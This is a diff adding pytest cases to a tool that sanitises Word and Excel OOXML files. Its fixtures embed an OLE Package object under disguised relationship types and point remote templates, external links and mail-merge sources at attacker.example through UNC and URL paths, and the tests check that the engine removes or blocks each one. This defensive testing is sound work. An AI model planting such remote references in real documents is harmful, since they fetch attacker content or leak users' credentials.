@@ -14,6 +14,7 @@ import pytest
 
 from tests.plugins.test_office import (
     NS,
+    OLE_OBJECT,
     VBA_BIN,
     _save,
     _write,
@@ -24,6 +25,7 @@ from tests.plugins.test_office import (
     content_types,
     dde_found,
     disarm,
+    embedded_ole_objects,
     insert,
     member,
     names,
@@ -604,3 +606,179 @@ def test_fields_in_an_ordinary_text_box_are_kept(tmp_path: Path) -> None:
     assert not any(a.switch == "dynamic_data_exchange" for a in result.actions), result
     document = zipfile.ZipFile(dest if dest.exists() else path).read("word/document.xml")
     assert document.count(b" DATE ") == 2 and document.count(b"txbxContent") == 4
+
+
+# ---------------------------------------------------- a review of the OOXML engine (2)
+
+_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+_OBJECT = (
+    '<w:r><w:object xmlns:v="urn:schemas-microsoft-com:vml" '
+    'xmlns:o="urn:schemas-microsoft-com:office:office" '
+    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
+    '<v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:76pt;height:49pt"/>'
+    '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" ObjectID="_1" '
+    'r:id="rIdX1"/></w:object></w:r>'
+)
+
+
+@pytest.mark.parametrize(
+    ("rel_type", "placed"),
+    [
+        (_REL + "printerSettings", True),
+        (_REL + "OLEOBJECT", True),
+        ("http://example.com/x", True),
+        (_REL + "customXml", False),  # (no element places it: an OLE file all the same)
+    ],
+    ids=["printer-settings", "upper-case", "unknown", "not-placed"],
+)
+def test_an_ole_object_under_any_relationship_type_goes(
+    tmp_path: Path, rel_type: str, placed: bool
+) -> None:
+    """A Package object (an embedded file, found by oleobj) reached by a printer
+    settings, an upper-case or an unknown relationship type, as word/media/blob.bin,
+    was delivered, its o:OLEObject too, even under embedded_files = disallow."""
+    data = rezip(
+        _docx_with(_OBJECT if placed else "<w:r><w:t>x</w:t></w:r>"),
+        {
+            "word/media/blob.bin": OLE_OBJECT,
+            "word/_rels/document.xml.rels": add_rels(("rIdX1", rel_type, "media/blob.bin", False)),
+        },
+    )
+    path = _write(tmp_path, "object.docx", data)
+    assert embedded_ole_objects(path) == 1
+    result, dest = disarm(path, tmp_path, switches("sanitise"))
+    assert result.outcome == "rebuilt", result
+    assert embedded_ole_objects(dest) == 0 and "word/media/blob.bin" not in names(dest)
+    assert b"OLEObject" not in member(dest, "word/document.xml")
+    assert_consistent(dest)
+    result, _ = disarm(path, tmp_path, switches("sanitise", embedded_files="disallow"))
+    assert result.outcome == "blocked", result
+
+
+_EXTERNAL_BOOK = (
+    f'<externalLink xmlns="{_S}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
+    'relationships"><externalBook r:id="rId1"/></externalLink>'
+).encode()
+_EXTERNAL_BOOK_RELS = (
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    b'relationships/externalLinkPath" Target="file:///\\\\attacker.example\\share\\b.xlsx" '
+    b'TargetMode="External"/></Relationships>'
+)
+
+
+def test_an_external_link_part_a_document_refers_to_is_judged(tmp_path: Path) -> None:
+    """The external relationships of a part whose root is <externalLink> were left to
+    the workbook's external links: reached from a Word document (or a worksheet),
+    its UNC path stayed, even under external_hyperlinks = disallow."""
+    data = rezip(
+        build_docx(False),
+        {
+            "word/foo.xml": _EXTERNAL_BOOK,
+            "word/_rels/foo.xml.rels": _EXTERNAL_BOOK_RELS,
+            "word/_rels/document.xml.rels": add_rels(
+                ("rIdX", _REL + "externalLink", "foo.xml", False)
+            ),
+        },
+    )
+    path = _write(tmp_path, "link.docx", data)
+    assert "attacker.example" in _rels_text(path)
+    result, dest = disarm(path, tmp_path, switches("sanitise"))
+    assert result.outcome == "rebuilt", result
+    assert "attacker.example" not in _rels_text(dest)
+    result, _ = disarm(path, tmp_path, switches("sanitise", external_hyperlinks="disallow"))
+    assert result.outcome == "blocked", result
+
+
+def _rels_text(path: Path) -> str:
+    with zipfile.ZipFile(path) as zf:
+        return "".join(zf.read(n).decode() for n in zf.namelist() if n.endswith(".rels"))
+
+
+@pytest.mark.parametrize(
+    ("target", "decoy"),
+    [
+        ("\\\\attacker.example\\share\\t.dotm", "attacker.example/share/t.dotm"),
+        ("//attacker.example/share/t.dotm", "attacker.example/share/t.dotm"),
+        ("http://attacker.example/t.dotm", "word/http:/attacker.example/t.dotm"),
+    ],
+    ids=["unc", "network-path", "url"],
+)
+def test_a_decoy_part_does_not_make_a_remote_template_internal(
+    tmp_path: Path, target: str, decoy: str
+) -> None:
+    """A remote template with no TargetMode was external, unless a part sat where the
+    target resolved as a path: then it was kept, w:attachedTemplate with it."""
+    settings_rels = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="rIdT" Type="'
+        + (_REL + "attachedTemplate").encode()
+        + b'" Target="'
+        + target.encode()
+        + b'"/></Relationships>'
+    )
+
+    def template(xml: bytes) -> bytes:
+        return re.sub(
+            rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdT"/>', xml, count=1
+        )
+
+    data = rezip(
+        build_docx(False),
+        {"word/_rels/settings.xml.rels": settings_rels, "word/settings.xml": template, decoy: b"x"},
+    )
+    assert b"attachedTemplate" in zipfile.ZipFile(io.BytesIO(data)).read("word/settings.xml")
+    path = _write(tmp_path, "template.docx", data)
+    result, dest = disarm(path, tmp_path, switches("sanitise"))
+    assert result.outcome == "rebuilt", result
+    assert any("remote template" in a.detail for a in result.actions), result.actions
+    assert b"attachedTemplate" not in member(dest, "word/settings.xml")
+    assert "attacker.example" not in _rels_text(dest)
+
+
+def test_a_mail_merge_source_without_its_element_goes(tmp_path: Path) -> None:
+    """An external mail-merge data source that no <w:mailMerge> uses stayed, under
+    dynamic_data_exchange = disallow too."""
+    source = ("rIdM", _REL + "mailMergeSource", "file:///\\\\attacker.example\\s\\d.odc", True)
+    empty = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b"</Relationships>"
+    )
+    base = build_docx(False)
+    rels = "word/_rels/settings.xml.rels"
+    present = rels in zipfile.ZipFile(io.BytesIO(base)).namelist()
+    change = add_rels(source) if present else add_rels(source)(empty)
+    path = _write(tmp_path, "merge.docx", rezip(base, {rels: change}))
+    assert "attacker.example" in _rels_text(path)
+    result, dest = disarm(path, tmp_path, switches("sanitise"))
+    assert result.outcome == "rebuilt", result
+    assert "attacker.example" not in _rels_text(dest)
+    result, _ = disarm(path, tmp_path, switches("sanitise", dynamic_data_exchange="disallow"))
+    assert result.outcome == "blocked", result
+
+
+def test_references_under_deep_nesting_are_cleaned_up_quickly(tmp_path: Path) -> None:
+    """20,000 elements referring to a removed external hyperlink, under 240 nested
+    elements, took 15 s (each walked up to the root, twice; lxml counts a parent's
+    children for len()); 100,000 in 881 KB took 84 s, past the job timeout."""
+    import time
+
+    deep = '<x:a xmlns:x="urn:x">' * 240
+    refs = '<x:b r:id="rIdE"/>' * 60_000
+    paragraph = f"<w:r>{deep}{refs}{'</x:a>' * 240}</w:r>"
+    data = rezip(
+        _docx_with(paragraph),
+        {
+            "word/_rels/document.xml.rels": add_rels(
+                ("rIdE", _REL + "hyperlink", "https://example.com/", True)
+            ),
+        },
+    )
+    path = _write(tmp_path, "deep.docx", data)
+    started = time.perf_counter()
+    limits = {"max_file_size": 50 * 2**20, "max_ratio": 10_000}  # (repetitive XML)
+    result, dest = disarm(path, tmp_path, switches("sanitise"), limits)
+    took = time.perf_counter() - started
+    assert result.outcome == "rebuilt", result
+    assert b'r:id="rIdE"' not in member(dest, "word/document.xml")
+    assert took < 15, took  # (about 1 s; it was quadratic: minutes)
